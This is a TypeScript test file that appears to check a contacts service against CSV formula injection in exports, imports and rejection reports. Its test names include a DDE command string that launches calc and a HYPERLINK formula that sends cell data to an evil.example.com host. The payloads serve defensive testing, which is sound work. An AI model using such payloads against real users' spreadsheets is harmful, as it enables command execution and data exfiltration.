import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { fetchFile, postParts } from '../../test/files.ts';
import { sql } from '../../test/inside.ts';
import { createWorld } from '../../test/world.ts';
import { exportContacts } from './exports.ts';
import { importContacts } from './import-job.ts';

// Customers choose their names: what they are called must not calculate in the spreadsheet of who exports them.

const world = await createWorld();
const { acme, globex, ada, gil, platform } = world;

const call = "cmd|' /C calc'!A0";
const names = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', `=${call}`, '"=1+1', `'=1+1`, `''=1+1`, 'a;=1+1', 'a;"=1+1&"', 'a\t=1+1',
  'a\n=1+1', 'a;\n-1', '\uFF1D1+1', '=HYPERLINK("https://evil.example.com?"&A1)', 'x=1', 'Ann-Lee', `O'Hara`,
]; // prettier-ignore
const attributes = ['\t=1', '\r=1', '\n=1', ';=1', '{"a":"=1"}', ...names];

await sql(
  world,
  `insert into contacts (account_id, name, identifier, email)
   select $1, name, 'id-' || n, 'p' || n || '@example.com' from unnest($2::text[]) with ordinality t (name, n)`,
  [acme.id, names],
);

async function exported(caller: typeof ada, account_id: number, input: object): Promise<string> {
  const answer = await caller.post('/contacts/export', input);
  assert.equal(answer.status, 200, answer.text);
  const [last] = await sql<{ id: number }>(
    world,
    'select max(id)::int as id from contact_exports where account_id = $1',
    [account_id],
  );
  await exportContacts(platform, { account_id, export_id: last?.id ?? 0 });
  const [newest] = (await caller.get('/contacts/exports')).body.payload as { file_url: string }[];
  return (await fetchFile(world, newest?.file_url ?? '')).body;
}

async function imported(caller: typeof ada, account_id: number, bytes: string): Promise<void> {
  const file = { name: 'import_file', filename: 'a.csv', type: 'text/csv', bytes };
  const sent = await postParts(caller, '/contacts/import', [file]);
  assert.equal(sent.status, 200, sent.text);
  const [last] = await sql<{ id: number }>(
    world,
    'select max(id)::int as id from contact_imports where account_id = $1',
    [account_id],
  );
  await importContacts(platform, { account_id, import_id: last?.id ?? 0 });
  const { body } = await caller.get(`/contacts/imports/${last?.id}`);
  assert.deepEqual([body.status, body.rejected_records], ['completed', 0], JSON.stringify(body));
}

const calculates = /^["']*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const isMarked = (cell: string): boolean => !calculates.test(cell) || /^"*'/.test(cell);

test('exported names begin no formula, and a desk that takes the file in has them as they were', async () => {
  const text = await exported(ada, acme.id, { column_names: ['name', 'identifier', 'email'] });
  for (const delimiter of [',', ';', '\t']) {
    const lines = parse(text, { delimiter, relax_quotes: true, relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] }); // prettier-ignore
    assert.deepEqual(
      lines.flat().filter((cell) => !isMarked(cell)),
      [],
      JSON.stringify(delimiter),
    );
  }
  await imported(gil, globex.id, text);
  const found = await sql<{ name: string }>(
    world,
    `select name from contacts where account_id = $1 and identifier like 'id-%' order by id`,
    [globex.id],
  );
  assert.deepEqual(
    found.map(({ name }) => name),
    names,
  );
});

test('attributes of a file that begin a formula are data, and so they are in the file of a desk that has them', async () => {
  const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const rows = attributes.map((each, n) => `q${n}@example.com,${cell(`.${each}`)}`);
  await imported(ada, acme.id, ['email,size', ...rows].join('\r\n'));
  // In front of it nothing may stand: a dot there was for the file alone.
  await sql(
    world,
    `update contacts set custom_attributes = jsonb_build_object('size', substr(custom_attributes ->> 'size', 2))
     where account_id = $1 and email like 'q%'`,
    [acme.id],
  );
  const text = await exported(ada, acme.id, { column_names: ['email', 'custom_attributes'] });
  const lines = parse<Record<string, string>>(text, { columns: true }).filter(
    ({ email }) => email?.startsWith('q') === true,
  );
  const sizes = lines.map(({ custom_attributes = '' }) => (JSON.parse(custom_attributes) as { size: string }).size); // prettier-ignore
  assert.equal(sizes.length, attributes.length);
  for (const line of lines) for (const each of Object.values(line)) assert.ok(isMarked(each), each);
});

test('the report about rows that were refused calculates nothing either', async () => {
  const file = { name: 'import_file', filename: 'a.csv', type: 'text/csv', bytes: `email,=1+1\r\nnobody,"a;=1+1"\r\n` }; // prettier-ignore
  assert.equal((await postParts(ada, '/contacts/import', [file])).status, 200);
  const [last] = await sql<{ id: number }>(
    world,
    'select max(id)::int as id from contact_imports where account_id = $1',
    [acme.id],
  );
  await importContacts(platform, { account_id: acme.id, import_id: last?.id ?? 0 });
  const { body } = await ada.get(`/contacts/imports/${last?.id}`);
  assert.equal(body.rejected_records, 1, JSON.stringify(body));
  const report = (await fetchFile(world, body.report_url)).body;
  const cells = [',', ';'].flatMap((delimiter) => parse(report, { delimiter, relax_quotes: true, relax_column_count: true }).flat()); // prettier-ignore
  assert.deepEqual(
    cells.filter((each) => !isMarked(each)),
    [],
  );
  assert.ok(cells.includes("'=1+1"), report);
});
